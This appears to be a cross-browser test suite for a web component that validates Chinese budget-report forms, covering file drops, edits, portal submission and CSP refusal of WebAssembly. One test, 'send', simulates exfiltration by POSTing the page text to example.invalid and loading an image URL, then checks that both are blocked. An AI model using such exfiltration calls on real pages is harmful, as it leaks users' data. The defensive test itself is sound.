// The page, the saved page and the portal in every browser: the example, a repair, files, a stopped attempt
// to send, and the log of requests.

import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { serve } from "./serve.mjs";
import { servePortal, POLICY } from "../../examples/portal/serve.mjs";
import { ARTEFACTS } from "./chromium.mjs";
import { BROWSERS } from "./browsers.mjs";

const ROOT = new URL("../../", import.meta.url).pathname;
const DIST = join(ROOT, "dist/");
const DATA = join(ROOT, "tests/data/");

/** What is done in the page, the same in every browser. */
const work = {
  /** Until the checker has started: the first report on the example. */
  example: async () => {
    // WebDriver may come before the page's scripts.
    await customElements.whenDefined("gouji-validator");
    const validator = document.querySelector("gouji-validator");
    const inside = validator.shadowRoot;
    const until = async (what, ready) => {
      for (let i = 0; i < 200; i += 1) {
        const value = ready();
        if (value) return value;
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
      throw new Error(`${what} did not come; the verdict says: ${inside.querySelector(".verdict").textContent}`);
    };
    // In a small stage of its own, so that WebDriver's functions see it too.
    window.stage = { validator, inside, until };
    [...inside.querySelectorAll("button")].find((button) => button.textContent === "看一个例子").click();
    await until("the report", () => validator.report);
    const cell = await until("the cell", () => inside.querySelector("td.marked.error"));
    const drawn = { cell: cell.dataset.key, blocks: inside.querySelectorAll(".document .heading, .document p, .document table.form").length };
    // In the text as it was pasted the same is marked.
    inside.querySelector("#tab-source").click();
    await until("the mark", () => inside.querySelector(".marks .mark.error"));
    const mark = inside.querySelector(".marks .mark.error").getBoundingClientRect();
    const box = inside.querySelector(".editor").getBoundingClientRect();
    inside.querySelector("#tab-document").click();
    return {
      verdict: inside.querySelector(".verdict").textContent,
      finding: inside.querySelector(".finding .what").textContent,
      marked: mark.width > 3 && mark.height > 10 && mark.left > box.left && mark.right < box.right,
      ...drawn,
    };
  },
  repair: async () => {
    const { validator, inside } = window.stage;
    inside.querySelector(".finding .primary").click();
    const errors = validator.report.summary.errors;
    validator.undo();
    return [errors, validator.report.summary.errors];
  },
  /** A cell is edited where it stands. */
  edit: async () => {
    const { validator, inside, until } = window.stage;
    const cell = () => inside.querySelector('td[data-key="requests/carried_in/total"]');
    cell().dispatchEvent(new MouseEvent("dblclick", { bubbles: true }));
    const input = cell().querySelector("input");
    input.value = "4";
    input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
    await until("the check", () => validator.report.summary.errors === 0);
    const changes = inside.querySelector(".changes summary").textContent;
    validator.undo();
    return [changes, cell().firstChild.data, validator.report.summary.errors];
  },
  /** Drops a file: base64 of its bytes, repeated. */
  drop: async (name, bytes, padding) => {
    const { validator, inside, until } = window.stage;
    validator.value = "";
    const file = new File([Uint8Array.from(atob(bytes), (c) => c.charCodeAt(0)), "办".repeat(padding)], name);
    const event = new Event("drop", { bubbles: true, cancelable: true });
    event.dataTransfer = { types: ["Files"], files: [file] };
    inside.querySelector(".root").dispatchEvent(event);
    await until(name, () => validator.report);
    return [validator.report.summary.errors, inside.querySelector(".finding.error .what").textContent];
  },
  /** Three files at once, two of them two years of one body: a list, of which one is opened and gone back from. */
  many: async (text) => {
    const { validator, inside, until } = window.stage;
    const file = (body, year) => new File([text.replaceAll("2024", year).replaceAll("示例县", body)], `${body}${year}.txt`);
    validator.open([file("甲县", "2024"), file("甲县", "2023"), file("乙县", "2024")]);
    const rows = () => [...inside.querySelectorAll(".folder-list tbody tr")].map((row) => row.textContent);
    await until("the list", () => rows().length === 3 && /已对照 2023 年度/.test(rows()[0]) && !inside.querySelector(".folder progress"));
    const counts = inside.querySelector(".folder-counts").textContent;
    inside.querySelector(".folder-list tbody tr:nth-child(3) button").click();
    const of = await until("the report", () => validator.report?.agency);
    inside.querySelector(".crumbs button").click();
    const back = !inside.querySelector(".folder").hidden;
    [...inside.querySelectorAll(".folder-tools button")].pop().click();
    return [counts, of, back];
  },
  /** Another script of the page tries to send the text away. */
  send: async () => {
    const { inside, until } = window.stage;
    const before = inside.querySelector(".stopped").textContent;
    await fetch("https://example.invalid/", { method: "POST", body: "text" }).then(() => {}, () => {});
    new Image().src = "http://example.invalid/?text";
    await until("the count", () => inside.querySelector(".stopped").textContent.includes("拦下了本页 2 次"));
    return [before, inside.querySelector("summary").textContent];
  },
  /** The portal's form is sent as by its button. */
  submit: async (text) => {
    const { validator, inside, until } = window.stage;
    validator.value = text;
    document.querySelector("form > p > button").click();
    await until("the refusal", () => inside.querySelector(".verdict").textContent.includes("请改正后再提交"));
    return [location.pathname, inside.activeElement?.localName];
  },
};

const base64 = (name) => readFileSync(join(DATA, name)).toString("base64");

/** The whole use in one page; `own` tells the page's own addresses. */
async function use(page, label, own) {
  const seen = await page.evaluate(work.example);
  assert.match(seen.verdict, /1 处错误.*核对了 44 个等式/, label);
  assert.match(seen.finding, /二、上年结转 · 总计应为 4，现为 0/, label);
  assert.ok(seen.blocks >= 12, `${label}: the document is drawn`);
  assert.equal(seen.marked, true, `${label}: the mark lies on the text`);
  assert.equal(seen.cell, "requests/carried_in/total", label);
  await page.screenshot(join(ARTEFACTS, `${label}.png`));
  assert.deepEqual(await page.evaluate(work.repair), [0, 1], `${label}: repaired, and undone`);
  assert.deepEqual(await page.evaluate(work.edit), ["已改 1 处", "0", 1], `${label}: a cell edited, and undone`);
  for (const [name, padding] of [["slip.pdf", 0], ["pdf/aes-256.pdf", 0], ["slip.ofd", 0], ["slip.docx", 0], ["slip.doc", 0], ["slip.xls", 0], ["slip.gb18030.txt", 0], ["slip.txt", 200_000]]) {
    const [errors, finding] = await page.evaluate(work.drop, name, base64(name), padding);
    assert.equal(errors, 1, `${label}: ${name}`);
    assert.match(finding, /二、上年结转 · 总计应为 4，现为 0/, `${label}: ${name}`);
  }
  const [counts, of, back] = await page.evaluate(work.many, readFileSync(join(DATA, "slip.txt"), "utf8"));
  assert.match(counts, /共 3 份：3 份有错误/, label);
  assert.deepEqual([of, back], ["乙县人民政府", true], label);
  const outside = (await page.requests).filter((url) => !own(url));
  assert.deepEqual(outside, [], `${label}: requests`);
  const [before, after] = await page.evaluate(work.send);
  assert.match(before, /没有发现/, label);
  assert.match(after, /△ .*2 次/, label);
}

for (const { name, launch, knowsWasmUnsafeEval } of BROWSERS) {
  test(name, async () => {
    const site = await serve(DIST);
    const portal = await servePortal(join(DIST, "portal"));
    const loose = await servePortal(join(DIST, "portal"), {
      policy: { ...POLICY, "script-src": "'self' 'wasm-unsafe-eval' 'unsafe-eval'" },
    });
    const tight = await servePortal(join(DIST, "portal"), { policy: { ...POLICY, "script-src": "'self'" } });
    const browser = await launch();
    try {
      const own = (url) => (at) => at.startsWith(url) || /^(data|blob):/.test(at);
      const served = await browser.open(site.url);
      await use(served, `${name}-http`, own(site.url));
      await served.close();

      const file = pathToFileURL(join(DIST, "gouji.html")).href;
      const saved = await browser.open(file);
      await use(saved, `${name}-file`, own(file));
      await saved.close();

      const host = knowsWasmUnsafeEval ? portal : loose;
      const embedded = await browser.open(host.url);
      await use(embedded, `${name}-portal`, own(host.url));
      const slip = readFileSync(join(DATA, "slip.txt"), "utf8");
      assert.deepEqual(await embedded.evaluate(work.submit, slip), ["/", "textarea"], `${name}: not sent`);
      await embedded.close();

      // WebAssembly refused: the element says what the administrator has to allow.
      const refused = await browser.open((knowsWasmUnsafeEval ? tight : portal).url);
      const [sentence, state, reason] = await refused.evaluate(async () => {
        await customElements.whenDefined("gouji-validator");
        const inside = document.querySelector("gouji-validator").shadowRoot;
        for (let i = 0; i < 100 && !inside.querySelector(".verdict strong"); i += 1) await new Promise((resolve) => setTimeout(resolve, 25));
        // Told as a word, too, and as an event to whoever listens.
        const validator = document.querySelector("gouji-validator");
        const event = new Promise((resolve) => validator.addEventListener("gouji-unavailable", ({ detail }) => resolve(detail.reason)));
        document.body.append(validator);
        return [inside.querySelector(".verdict").textContent, validator.state, await event];
      });
      assert.match(sentence, /script-src 中加入 'wasm-unsafe-eval'/, name);
      assert.deepEqual([state, reason], ["unavailable", "refused"], name);
      await refused.screenshot(join(ARTEFACTS, `${name}-refused.png`));
      await refused.close();
    } finally {
      await browser.close();
      for (const server of [site, portal, loose, tight]) server.close();
    }
  });
}
